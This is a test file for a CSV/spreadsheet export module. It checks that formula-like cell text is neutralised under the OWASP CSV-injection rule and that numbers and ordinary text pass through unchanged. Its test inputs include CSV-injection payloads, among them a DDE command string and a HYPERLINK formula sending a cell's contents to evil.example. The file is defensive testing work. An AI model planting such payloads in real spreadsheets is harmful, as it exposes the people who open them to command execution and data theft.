import { describe, expect, it } from 'vitest';
import { parseCsv } from './marks-csv';
import { csvField, csvRow, spreadsheetText } from './spreadsheet';

describe('spreadsheet cells', () => {
  it('neutralises text a spreadsheet would run as a formula (the OWASP rule)', () => {
    for (const text of [
      "=cmd|' /C calc'!A0",
      '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
      '@SUM(1)',
      '+1+2',
      '-1+2',
      '-2-3',
      '\t=1+1',
      '\r=1+1',
      '=1',
    ]) {
      expect(spreadsheetText(text)).toBe(`'${text}`);
    }
  });

  it('keeps numbers numbers (a negative score, a deduction) and ordinary text as it is', () => {
    for (const text of ['-1.5', '-3', '0', '12.25', '+2', '张伟', 'A01', 'Cao Yuan', 'J1', '1+1', 'a=b', ''])
      expect(spreadsheetText(text)).toBe(text);
  });

  it('writes CSV fields that read back as the neutralised text', () => {
    const row = ['=HYPERLINK("x","y")', 'a,b', '-1.5', 'line\r\nbreak', '@SUM(1)'];
    const line = csvRow(row);
    expect(line).toBe(`"'=HYPERLINK(""x"",""y"")","a,b",-1.5,"line\r\nbreak",'@SUM(1)`);
    expect(parseCsv(`${line}\n`).records[0]?.fields).toEqual(row.map(spreadsheetText));
    expect(csvField('-1+2')).toBe("'-1+2");
  });
});
